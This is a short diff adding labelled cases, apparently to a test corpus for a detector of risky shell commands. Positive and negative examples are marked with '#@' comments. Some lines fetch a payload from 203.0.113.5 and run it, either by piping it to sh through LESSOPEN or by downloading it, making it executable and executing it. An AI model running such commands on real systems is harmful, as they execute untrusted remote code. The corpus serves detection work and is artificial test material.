@@ -158,3 +158,12 @@ t=(curl less); "${t[0]}" -s https://example.com/ | "${t[1]}"
 LESSOPEN='|curl -s http://203.0.113.5/p | sh # %s' less /etc/hostname
 #@ neg less's usual input preprocessor
 export LESSOPEN='| /usr/bin/lesspipe %s'
+#@ pos a downloaded file run three statements later
+curl -s http://203.0.113.5/p > /tmp/p
+echo "fetched"
+chmod +x /tmp/p
+/tmp/p
+#@ neg a downloaded JSON file read by later statements
+curl -s https://api.example.com/v1/items -o out.json
+jq . out.json
+cat out.json
